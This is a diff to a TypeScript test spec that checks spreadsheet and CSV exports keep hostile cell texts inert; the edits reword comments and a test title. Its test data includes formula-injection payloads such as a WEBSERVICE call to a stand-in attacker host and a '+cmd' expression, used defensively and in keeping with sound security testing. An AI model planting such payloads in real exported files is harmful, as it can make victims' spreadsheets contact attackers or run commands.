@@ -21,7 +21,7 @@ const FORMULAS = [
   '=WEBSERVICE("http://evil.example/")',
   '-2+3+cmd',
 ];
-/** What makes a field begin in some dialect, or may stand before its text. */
+/** Texts that begin a field in some dialect, or may come before its text. */
 const BEGINNINGS = [
   '',
   ',',
@@ -43,7 +43,7 @@ const BEGINNINGS = [
 ];
 const SEPARATORS = [',', ';', '\t', '|'];
 
-/** Excel's limit of a cell. */
+/** Excel's limit for a cell. */
 const LONGEST = 32_767;
 const TEXTS = [
   ...BEGINNINGS.flatMap((beginning) => FORMULAS.map((formula) => `${beginning}${formula}`)),
@@ -65,12 +65,12 @@ const TEXTS = [
 /** Longer than a cell: clipped in a workbook, whole in a CSV. */
 const TOO_LONG = ['y'.repeat(LONGEST + 1), '😀'.repeat(20_000)];
 const COLUMNS = 500;
-/** 00:30 and 01:30 in UTC, which are 02:30 both in Berlin. */
+/** 00:30 and 01:30 in UTC are both 02:30 in Berlin. */
 const REPEATED_HOUR = ['2026-10-25T00:30:00.123Z', '2026-10-25T01:30:00.123Z'];
 
 /**
- * Rows that fill whole cells have a day of their own. Calc breaks their texts into lines each time it opens
- * them, which took three quarters of the time of this spec: it opens them once, in the workbook.
+ * Rows that fill whole cells have a separate day. Calc breaks their texts into lines each time it opens them,
+ * which took three quarters of this spec's time. So it opens them only once, in the workbook.
  */
 const LONG_AT = '2026-10-26T12:00:00Z';
 const SHORT = { to: '2026-10-26T00:00:00Z' };
@@ -133,14 +133,14 @@ async function fileOf(
   return ground.download(id);
 }
 
-/** What no XML document may hold is U+FFFD in a workbook. */
+/** Characters that an XML document cannot hold are U+FFFD in a workbook. */
 const inWorkbook = (text: string): string => text.replace(/[\ufffe\uffff]/g, '\ufffd');
 /** Further lines of a value are indented. */
 const indented = (text: string): string => text.replace(/\r\n|[\n\v\f\r\u0085\u2028\u2029]/g, '$&  ');
 /** Calc has no control characters in a cell. */
 const inCalc = (text: string): string => text.replace(/[\x00-\x08\x0b-\x1f]/g, '');
 
-/** Whether a field is the text with nothing but apostrophes put in. */
+/** Whether a field is the text with only apostrophes added. */
 function isGuarded(field: string, text: string): boolean {
   let at = 0;
   for (const character of field)
@@ -153,7 +153,7 @@ const formulasOf = (sheets: readonly (readonly (readonly CalcCell[])[])[]): stri
   sheets.flat(2).flatMap(({ formula }) => formula ?? []);
 
 calcTest(
-  'hostile texts are texts in a workbook for openpyxl and LibreOffice, and live in no dialect of CSV',
+  'hostile texts are plain texts in a workbook for openpyxl and LibreOffice, and are calculated in no dialect of CSV',
   async () => {
     await using ground = await hostileGround();
     const workbook = await fileOf(ground, 'xlsx');
@@ -226,15 +226,15 @@ calcTest(
       [{ name: 'texts.csv', bytes: shortCsv }],
       asTexts(',', fields[0]!.length),
     );
-    // In a field of CSV, Calc ends lines in one way.
+    // In a field of CSV, Calc uses one kind of line end.
     const plain = (text: string): string => inCalc(text.replace(/\r\n?/g, '\n'));
-    // It knows no empty cells at the end of a row.
+    // Calc has no empty cells at the end of a row.
     const filled = (texts: readonly string[]): readonly string[] =>
       texts.slice(0, texts.findLastIndex((text) => text !== '') + 1);
     for (const [index, record] of shortFields.entries())
       expect(filled(asText![0]![index]!.map(({ text }) => plain(text)))).toEqual(filled(record.map(plain)));
 
-    // What would be live if it stood there as it is, so that the options of Calc are known to find it.
+    // A field that is calculated when it is written unchanged: it shows that the options of Calc find it.
     const live = Buffer.from(`\ufeff${SEPARATORS.map((separator) => `a${separator}=1+1\r\n`).join('')}`);
     for (const separator of SEPARATORS) {
       const files = [
